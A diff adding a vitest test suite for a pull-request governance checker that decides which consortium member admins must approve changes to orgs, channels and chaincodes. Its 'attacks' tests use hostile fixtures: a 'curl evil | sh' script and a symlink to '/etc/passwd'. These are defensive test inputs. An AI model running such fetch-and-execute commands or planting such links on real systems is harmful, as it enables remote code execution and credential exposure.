@@ -1,0 +1,471 @@
+import { afterEach, describe, expect, it } from 'vitest';
+import {
+  approve,
+  createScenario,
+  exampleTree,
+  growersFiles,
+  grower1,
+  longAgo,
+  now,
+  review,
+  stranger,
+  type Person,
+  type Scenario,
+} from './support/scenario.ts';
+
+const example = exampleTree();
+const text = (path: string) => {
+  const found = example[path];
+  if (found === undefined) throw new Error(`${path} is not in the example`);
+  return found;
+};
+/** The example file with one replacement; fails loudly when the example no longer contains `from`. */
+const edit = (path: string, from: string | RegExp, to: string) => {
+  const before = text(path);
+  const after = before.replace(from, to);
+  if (after === before) throw new Error(`${path}: "${String(from)}" not found`);
+  return { [path]: after };
+};
+
+let s: Scenario;
+afterEach(() => s.remove());
+const start = () => {
+  s = createScenario();
+  return s;
+};
+const admin = (org: string, index = 0): Person => {
+  const person = s.admins[org]?.[index];
+  if (person === undefined) throw new Error(`example org ${org} has no admin #${index}`);
+  return person;
+};
+const kinds = (result: { changes: readonly { kind: string; subject: string }[] }) => result.changes.map((c) => `${c.kind} ${c.subject}`);
+
+describe('documentation and toolkit', () => {
+  it('a docs change needs any one member admin', async () => {
+    start();
+    const head = s.push({ 'docs/operations.md': '# Operations\n\nRotate certificates yearly.\n' });
+    const pending = await s.judge({ head });
+    expect(kinds(pending)).toEqual(['docs.update docs']);
+    expect(pending.verdict).toBe('pending');
+    expect(pending.changes[0]?.missing).toEqual(['needs 1 more of: AcmeManufacturingMSP, HarborviewRetailMSP, StraitsFreightMSP']);
+    expect((await s.judge({ head, reviews: approve([admin('logistics')], head) })).verdict).toBe('approved');
+  });
+
+  it('the author, an admin of a member, is that member\'s approval of a docs change', async () => {
+    start();
+    const head = s.push({ 'README.md': '# Consortium\n\nHow to join.\n' });
+    expect((await s.judge({ head, author: admin('retailer') })).verdict).toBe('approved');
+  });
+
+  it('a toolkit change is critical: two admins per approving org and the minimum open time', async () => {
+    start();
+    const head = s.push({ 'tools/src/cli/main.ts': 'export const approveEverything = true;\n' });
+    const reviews = approve([admin('manufacturer', 0), admin('manufacturer', 1), admin('retailer', 0), admin('retailer', 1)], head);
+    const oneEach = await s.judge({ head, reviews: approve([admin('manufacturer'), admin('retailer')], head), openedAt: longAgo });
+    expect(kinds(oneEach)).toEqual(['toolkit.update toolkit']);
+    expect(oneEach.verdict).toBe('pending');
+    expect(oneEach.changes[0]?.missing).toContain('AcmeManufacturingMSP needs 1 more admin to count (critical change: 2 per org)');
+    expect((await s.judge({ head, reviews, openedAt: longAgo })).verdict).toBe('approved');
+  });
+
+  it('a critical change without a known opening time stays pending (fail closed)', async () => {
+    start();
+    const head = s.push({ 'package.json': '{ "name": "consortium", "private": true, "scripts": {} }\n' });
+    const reviews = approve([admin('manufacturer', 0), admin('manufacturer', 1), admin('retailer', 0), admin('retailer', 1)], head);
+    const result = await s.judge({ head, reviews });
+    expect(result.verdict).toBe('pending');
+    expect(result.changes[0]?.missing.join('\n')).toMatch(/opening time unknown/);
+  });
+
+  it('a critical change opened an hour ago waits for the minimum open time', async () => {
+    start();
+    const head = s.push({ '.github/workflows/governance.yml': 'name: governance\non: push\n' });
+    const reviews = approve([admin('manufacturer', 0), admin('manufacturer', 1), admin('retailer', 0), admin('retailer', 1)], head);
+    const opened = new Date(now.getTime() - 3_600_000).toISOString();
+    const result = await s.judge({ head, reviews, openedAt: opened });
+    expect(result.verdict).toBe('pending');
+    expect(result.changes[0]?.missing.join('\n')).toMatch(/stay open until .*23h left/);
+  });
+});
+
+describe('organizations', () => {
+  it("an org's change to itself needs that org", async () => {
+    start();
+    const head = s.push(edit('orgs/retailer/org.yaml', 'storage: 100Gi', 'storage: 200Gi'));
+    const byOthers = await s.judge({ head, reviews: approve([admin('manufacturer'), admin('logistics')], head) });
+    expect(kinds(byOthers)).toEqual(['org.update retailer']);
+    expect(byOthers.verdict).toBe('pending');
+    expect(byOthers.changes[0]?.requires).toMatch(/^OR\('HarborviewRetailMSP\.admin'\)/);
+    expect((await s.judge({ head, reviews: approve([admin('retailer', 1)], head) })).verdict).toBe('approved');
+  });
+
+  it('an org changing its own admins needs two of its base admins and the open time', async () => {
+    start();
+    const newcomer: Person = { login: 'new-retail-admin', id: 70_000_001 };
+    const head = s.push(
+      edit('orgs/retailer/org.yaml', /admins:\n/, `admins:\n  - github: ${newcomer.login}\n    githubId: ${newcomer.id}\n`),
+    );
+    const result = await s.judge({ head, author: admin('retailer', 0), reviews: approve([admin('retailer', 1)], head), openedAt: longAgo });
+    expect(kinds(result)).toEqual(['org.admins.update retailer']);
+    expect(result.changes[0]?.critical).toBe(true);
+    expect(result.verdict).toBe('approved');
+  });
+
+  it('a renamed MSP id is a removal plus an addition', async () => {
+    start();
+    const head = s.push(edit('orgs/retailer/org.yaml', 'mspId: HarborviewRetailMSP', 'mspId: HarborviewMSP'));
+    const result = await s.judge({ head });
+    expect(kinds(result)).toContain('org.remove retailer');
+    expect(kinds(result)).toContain('org.add retailer');
+  });
+
+  it('moving an org folder (git rename) is a removal plus an addition', async () => {
+    start();
+    const moved: Record<string, string | null> = {};
+    for (const [path, content] of Object.entries(example)) {
+      if (!path.startsWith('orgs/logistics/')) continue;
+      moved[path] = null;
+      moved[path.replace('orgs/logistics/', 'orgs/freight/')] = path.endsWith('org.yaml') ? content.replace('id: logistics', 'id: freight') : content;
+    }
+    const head = s.push(moved);
+    const result = await s.judge({ head });
+    expect(kinds(result)).toEqual(expect.arrayContaining(['org.add freight', 'org.remove logistics']));
+    expect(result.verdict).not.toBe('approved');
+  });
+
+  it('adding a new org to a channel needs the channel Admins over current members plus the org', async () => {
+    start();
+    const head = s.push({
+      ...(await growersFiles()),
+      ...edit('channels/recalls/channel.yaml', 'members:\n  - manufacturer\n  - retailer\n', 'members:\n  - manufacturer\n  - retailer\n  - growers\n'),
+    });
+    const partial = await s.judge({ head, author: grower1, reviews: approve([admin('manufacturer'), admin('logistics')], head) });
+    expect(kinds(partial)).toEqual(['org.add growers', 'channel.member.add recalls/growers']);
+    expect(partial.changes[0]?.satisfied).toBe(true);
+    // MAJORITY of the channel's 2 current members is 2: the retailer must approve too.
+    expect(partial.changes[1]?.missing).toEqual(['needs 1 more of: HarborviewRetailMSP']);
+    const all = await s.judge({ head, author: grower1, reviews: approve([admin('manufacturer'), admin('retailer')], head) });
+    expect(all.verdict).toBe('approved');
+  });
+});
+
+describe('channels and chaincodes', () => {
+  it('a chaincode upgrade (sequence + 1) needs the channel LifecycleEndorsement', async () => {
+    start();
+    const path = 'channels/traceability/chaincodes/provenance.yaml';
+    const head = s.push({ [path]: text(path).replace('version: 1.0.0', 'version: 1.1.0').replace('sequence: 1', 'sequence: 2').replace(/:1\.0\.0/, ':1.1.0') });
+    const one = await s.judge({ head, reviews: approve([admin('logistics')], head) });
+    expect(kinds(one)).toEqual(['chaincode.upgrade traceability/provenance']);
+    expect(one.changes[0]?.requires).toMatch(/^MAJORITY Endorsement \(channel traceability LifecycleEndorsement policy/);
+    expect(one.verdict).toBe('pending');
+    expect((await s.judge({ head, reviews: approve([admin('logistics'), admin('retailer')], head) })).verdict).toBe('approved');
+  });
+
+  it('a chaincode change that skips a sequence number is an error', async () => {
+    start();
+    const path = 'channels/traceability/chaincodes/provenance.yaml';
+    const head = s.push({ [path]: text(path).replace('version: 1.0.0', 'version: 1.1.0').replace('sequence: 1', 'sequence: 3') });
+    const all = Object.values(s.admins).flat();
+    const result = await s.judge({ head, reviews: approve(all, head) });
+    expect(result.verdict).toBe('error');
+    expect(result.changes[0]?.summary).toMatch(/must have sequence 2/);
+  });
+
+  it('a new chaincode definition on a channel needs that channel\'s members', async () => {
+    start();
+    const path = 'channels/recalls/chaincodes/recall-audit.yaml';
+    const head = s.push({ [path]: text('channels/recalls/chaincodes/recall-notices.yaml').replace(/recall-notices/g, 'recall-audit') });
+    const result = await s.judge({ head, reviews: approve([admin('logistics'), admin('manufacturer')], head) });
+    expect(kinds(result)).toEqual(['chaincode.define recalls/recall-audit']);
+    expect(result.changes[0]?.missing).toEqual(['needs 1 more of: HarborviewRetailMSP']);
+  });
+
+  it('a new channel needs every listed member', async () => {
+    start();
+    const channel = text('channels/recalls/channel.yaml').replace('name: recalls', 'name: pricing');
+    const head = s.push({ 'channels/pricing/channel.yaml': channel });
+    const one = await s.judge({ head, reviews: approve([admin('manufacturer')], head) });
+    expect(kinds(one)).toEqual(['channel.create pricing']);
+    expect(one.changes[0]?.missing).toEqual(['needs 1 more of: HarborviewRetailMSP']);
+    expect((await s.judge({ head, reviews: approve([admin('manufacturer'), admin('retailer')], head) })).verdict).toBe('approved');
+  });
+
+  it('a channel policy change needs the channel Admins policy', async () => {
+    start();
+    const head = s.push(edit('channels/traceability/channel.yaml', 'Endorsement: MAJORITY Endorsement\n  LifecycleEndorsement', 'Endorsement: ANY Endorsement\n  LifecycleEndorsement'));
+    const result = await s.judge({ head, reviews: approve([admin('manufacturer'), admin('logistics')], head) });
+    expect(kinds(result)).toEqual(['channel.policy.update traceability']);
+    expect(result.verdict).toBe('approved');
+  });
+
+  it('deleting a channel is an error: Fabric channels cannot be deleted', async () => {
+    start();
+    const head = s.push({ 'channels/recalls/channel.yaml': null, 'channels/recalls/chaincodes/recall-notices.yaml': null });
+    const result = await s.judge({ head, reviews: approve(Object.values(s.admins).flat(), head) });
+    expect(result.verdict).toBe('error');
+    expect(kinds(result)).toEqual(['error recalls']);
+  });
+
+  it('an ordering change needs a majority of consenter orgs, two admins each', async () => {
+    start();
+    const head = s.push(edit('consortium/consortium.yaml', 'timeout: 2s', 'timeout: 1s'));
+    const reviews = approve([admin('logistics', 0), admin('logistics', 1), admin('retailer', 0), admin('retailer', 1)], head);
+    const result = await s.judge({ head, reviews, openedAt: longAgo });
+    expect(kinds(result)).toEqual(['ordering.update consortium/ordering']);
+    expect(result.verdict).toBe('approved');
+  });
+
+  it('an edit that changes no meaning (a comment) is still governed by the file\'s owner', async () => {
+    start();
+    const head = s.push(edit('channels/recalls/channel.yaml', /^/, '# reviewed yearly\n'));
+    const result = await s.judge({ head });
+    expect(kinds(result)).toEqual(['channel.policy.update recalls']);
+    expect(result.changes[0]?.summary).toMatch(/without a semantic change/);
+  });
+
+  it('a pull request that changes nothing is approved', async () => {
+    start();
+    const head = s.push({});
+    const result = await s.judge({ head });
+    expect(result.changes).toEqual([]);
+    expect(result.verdict).toBe('approved');
+  });
+});
+
+describe('evidence: who approves, on what', () => {
+  it('approvals from non-admins do not count and are listed as such', async () => {
+    start();
+    const head = s.push({ 'docs/operations.md': '# Ops\n' });
+    const result = await s.judge({ head, reviews: approve([stranger], head), author: { login: 'someone-else', id: 1 } });
+    expect(result.verdict).toBe('pending');
+    expect(result.ignoredReviews).toEqual([{ login: 'mallory', reason: 'not an admin of any member org at base (by GitHub user id)' }]);
+  });
+
+  it('a reviewer with an admin\'s login but another numeric id does not count', async () => {
+    start();
+    const head = s.push({ 'docs/operations.md': '# Ops\n' });
+    const impostor = { login: admin('retailer').login, id: 99_999_999 };
+    expect((await s.judge({ head, reviews: approve([impostor], head) })).verdict).toBe('pending');
+  });
+
+  it('approvals in comments, review bodies and comment reviews never count', async () => {
+    start();
+    const head = s.push({ 'docs/operations.md': '# Ops\n' });
+    const reviews = [
+      review(admin('retailer'), 'COMMENTED', head, { body: 'APPROVED' }),
+      review(admin('logistics'), 'COMMENTED', head, { body: 'LGTM, approve' }),
+      review(admin('manufacturer'), 'PENDING', head),
+    ];
+    expect((await s.judge({ head, reviews })).verdict).toBe('pending');
+  });
+
+  it('a later comment does not withdraw an approval', async () => {
+    start();
+    const head = s.push({ 'docs/operations.md': '# Ops\n' });
+    const reviews = [review(admin('retailer'), 'APPROVED', head), review(admin('retailer'), 'COMMENTED', head)];
+    expect((await s.judge({ head, reviews })).verdict).toBe('approved');
+  });
+
+  it('a dismissal revokes an approval', async () => {
+    start();
+    const head = s.push({ 'docs/operations.md': '# Ops\n' });
+    const reviews = [review(admin('retailer'), 'APPROVED', head), review(admin('retailer'), 'DISMISSED', head)];
+    expect((await s.judge({ head, reviews })).verdict).toBe('pending');
+  });
+
+  it('a review by a deleted account (user null) is ignored', async () => {
+    start();
+    const head = s.push({ 'docs/operations.md': '# Ops\n' });
+    const ghost = { ...review(admin('retailer'), 'APPROVED', head), user: null };
+    expect((await s.judge({ head, reviews: [ghost] })).verdict).toBe('pending');
+  });
+
+  it('commit authors other than the pull-request author do not approve', async () => {
+    start();
+    const retail = admin('retailer');
+    const head = s.repo.commit({
+      branch: 'pr',
+      from: 'main',
+      files: { 'docs/operations.md': '# Ops\n' },
+      author: { name: retail.login, email: `${retail.id}+${retail.login}@users.noreply.github.com` },
+    });
+    expect((await s.judge({ head, author: stranger })).verdict).toBe('pending');
+  });
+
+  it('an approval on a commit git does not have (force-pushed away) does not count', async () => {
+    start();
+    const head = s.push({ 'docs/operations.md': '# Ops\n' });
+    const result = await s.judge({ head, reviews: approve([admin('retailer')], 'f'.repeat(40)) });
+    expect(result.verdict).toBe('pending');
+    expect(result.ignoredReviews[0]?.reason).toMatch(/whose changes differ/);
+  });
+});
+
+describe('stale approvals and rebases', () => {
+  it('approvals on an earlier head do not count after a content change', async () => {
+    start();
+    const first = s.push({ 'docs/operations.md': '# Ops\n' });
+    const second = s.push({ 'docs/operations.md': '# Ops, edited after approval\n' });
+    const result = await s.judge({ head: second, reviews: approve([admin('retailer')], first) });
+    expect(result.verdict).toBe('pending');
+  });
+
+  it('approvals survive a rebase onto a newer base with the same change set', async () => {
+    start();
+    const files = await growersFiles();
+    const first = s.push(files);
+    s.pushBase({ 'docs/faq.md': '# FAQ\n' });
+    const rebased = s.push(files, { branch: 'pr-rebased', from: 'main' });
+    const reviews = approve([admin('manufacturer'), admin('retailer'), grower1], first);
+    const result = await s.judge({ head: rebased, reviews });
+    expect(kinds(result)).toEqual(['org.add growers']);
+    expect(result.verdict).toBe('approved');
+  });
+
+  it('approvals survive a later commit that only reformats the same content', async () => {
+    start();
+    const files = await growersFiles();
+    const first = s.push(files);
+    const orgYaml = files['orgs/growers/org.yaml'];
+    const second = s.push({ 'orgs/growers/org.yaml': `# Joining member\n${String(orgYaml)}` });
+    const result = await s.judge({ head: second, reviews: approve([admin('manufacturer'), admin('retailer'), grower1], first) });
+    expect(result.verdict).toBe('approved');
+  });
+});
+
+describe('vetoes', () => {
+  it('changes requested by an admin of a deciding org reject the change', async () => {
+    start();
+    const head = s.push(await growersFiles());
+    const reviews = [...approve([admin('manufacturer'), admin('retailer'), grower1], head), review(admin('logistics'), 'CHANGES_REQUESTED', head)];
+    const result = await s.judge({ head, reviews });
+    expect(result.verdict).toBe('rejected');
+    expect(result.changes[0]?.vetoedBy).toEqual([{ org: 'logistics', mspId: 'StraitsFreightMSP', admins: [admin('logistics').login] }]);
+  });
+
+  it('a veto ends when that admin approves', async () => {
+    start();
+    const head = s.push(await growersFiles());
+    const reviews = [
+      ...approve([admin('manufacturer'), grower1], head),
+      review(admin('logistics'), 'CHANGES_REQUESTED', head),
+      review(admin('logistics'), 'APPROVED', head),
+    ];
+    expect((await s.judge({ head, reviews })).verdict).toBe('approved');
+  });
+
+  it('changes requested by an org that does not decide the change are not a veto', async () => {
+    start();
+    const head = s.push(edit('orgs/retailer/org.yaml', 'storage: 100Gi', 'storage: 200Gi'));
+    const reviews = [review(admin('retailer'), 'APPROVED', head), review(admin('manufacturer'), 'CHANGES_REQUESTED', head)];
+    expect((await s.judge({ head, reviews })).verdict).toBe('approved');
+  });
+});
+
+describe('attacks', () => {
+  it('a pull request that adds its author as an admin of another org stays pending', async () => {
+    start();
+    const attacker = admin('manufacturer');
+    const head = s.push(
+      edit('orgs/retailer/org.yaml', /admins:\n/, `admins:\n  - github: ${attacker.login}\n    githubId: ${attacker.id}\n`),
+    );
+    const reviews = approve([admin('manufacturer', 1), admin('logistics'), admin('logistics', 1)], head);
+    const result = await s.judge({ head, author: attacker, reviews, openedAt: longAgo });
+    expect(kinds(result)).toEqual(['org.admins.update retailer']);
+    expect(result.verdict).toBe('pending');
+    expect(result.changes[0]?.missing.join('\n')).toMatch(/HarborviewRetailMSP/);
+  });
+
+  it("an author cannot approve their own org's removal of another org alone", async () => {
+    start();
+    const author = admin('manufacturer');
+    const removal = Object.fromEntries(Object.keys(example).filter((p) => p.startsWith('orgs/logistics/')).map((p) => [p, null]));
+    const head = s.push(removal);
+    const result = await s.judge({ head, author, openedAt: longAgo });
+    expect(kinds(result)).toContain('org.remove logistics');
+    expect(result.verdict).not.toBe('approved');
+    const remove = result.changes.find((c) => c.kind === 'org.remove');
+    expect(remove?.missing).toContain('AcmeManufacturingMSP needs 1 more admin to count (critical change: 2 per org)');
+  });
+
+  it('the org being removed cannot veto its removal, but a majority is still needed', async () => {
+    start();
+    const removal = Object.fromEntries(Object.keys(example).filter((p) => p.startsWith('orgs/logistics/')).map((p) => [p, null]));
+    const head = s.push(removal);
+    const reviews = [review(admin('logistics'), 'CHANGES_REQUESTED', head)];
+    const result = await s.judge({ head, reviews, openedAt: longAgo });
+    const remove = result.changes.find((c) => c.kind === 'org.remove');
+    expect(remove?.vetoedBy).toEqual([]);
+    expect(remove?.satisfied).toBe(false);
+  });
+
+  it('a rule change that would pass only under the new rules is judged by the old ones', async () => {
+    start();
+    const rules = edit(
+      'consortium/consortium.yaml',
+      'rules: {}',
+      `rules:\n    org.add: "OR('AcmeManufacturingMSP.admin')"\n    governance.update: "OR('AcmeManufacturingMSP.admin')"`,
+    );
+    const head = s.push({ ...rules, ...(await growersFiles()) });
+    const reviews = approve([admin('manufacturer', 0), admin('manufacturer', 1), grower1], head);
+    const result = await s.judge({ head, reviews, openedAt: longAgo });
+    expect(kinds(result)).toEqual(['governance.update consortium/governance', 'org.add growers']);
+    expect(result.verdict).toBe('pending');
+    expect(result.changes.every((c) => c.requires.startsWith('MAJORITY Admins'))).toBe(true);
+  });
+
+  it('a deleted and re-added org directory is judged by what differs from base', async () => {
+    start();
+    const attacker = stranger;
+    const orgFiles = Object.keys(example).filter((p) => p.startsWith('orgs/retailer/'));
+    s.push(Object.fromEntries(orgFiles.map((p) => [p, null])));
+    const readded = {
+      ...Object.fromEntries(orgFiles.map((p) => [p, text(p)])),
+      ...edit('orgs/retailer/org.yaml', /admins:\n(?:  - github: \S+\n    githubId: \d+\n)+/, `admins:\n  - github: ${attacker.login}\n    githubId: ${attacker.id}\n`),
+    };
+    const head = s.push(readded);
+    const result = await s.judge({ head, author: attacker, reviews: approve([attacker], head), openedAt: longAgo });
+    expect(kinds(result)).toEqual(['org.admins.update retailer']);
+    expect(result.verdict).toBe('pending');
+    expect(result.changes[0]?.approvedBy).toEqual([]);
+  });
+
+  it('a file outside the known layout makes the verdict error', async () => {
+    start();
+    const head = s.push({ 'hack.sh': 'curl evil | sh\n', 'docs/operations.md': '# Ops\n' });
+    const result = await s.judge({ head, reviews: approve(Object.values(s.admins).flat(), head), openedAt: longAgo });
+    expect(result.verdict).toBe('error');
+    expect(kinds(result)).toContain('error hack.sh');
+  });
+
+  it('a stray file inside an org folder makes the verdict error', async () => {
+    start();
+    const head = s.push({ 'orgs/retailer/notes/keys.txt': 'nothing to see\n' });
+    const result = await s.judge({ head, reviews: approve([admin('retailer')], head) });
+    expect(result.verdict).toBe('error');
+  });
+
+  it('a head that does not validate makes the verdict error', async () => {
+    start();
+    const head = s.push({ 'orgs/retailer/org.yaml': `${text('orgs/retailer/org.yaml')}\npeers: [unclosed\n` });
+    const result = await s.judge({ head, reviews: approve(Object.values(s.admins).flat(), head), openedAt: longAgo });
+    expect(result.verdict).toBe('error');
+    expect(result.errors.join('\n')).toMatch(/head does not validate: orgs\/retailer\/org\.yaml/);
+  });
+
+  it('a symbolic link into another org makes the verdict error', async () => {
+    start();
+    const head = s.push({ 'orgs/retailer/msp/extra.pem': { symlink: '../../../../etc/passwd' } });
+    const result = await s.judge({ head, reviews: approve(Object.values(s.admins).flat(), head), openedAt: longAgo });
+    expect(result.verdict).toBe('error');
+  });
+
+  it('a joining org\'s admins speak only for that org', async () => {
+    start();
+    // The new org lists an existing member's admin: that listing gives them no say beyond the new org.
+    const head = s.push(await growersFiles({ admins: [grower1, admin('logistics')] }));
+    const result = await s.judge({ head, reviews: approve([grower1], head), author: stranger });
+    expect(result.verdict).toBe('pending');
+    expect(result.changes[0]?.approvedBy.map((a) => a.mspId)).toEqual(['GreenfieldGrowersMSP']);
+  });
+});
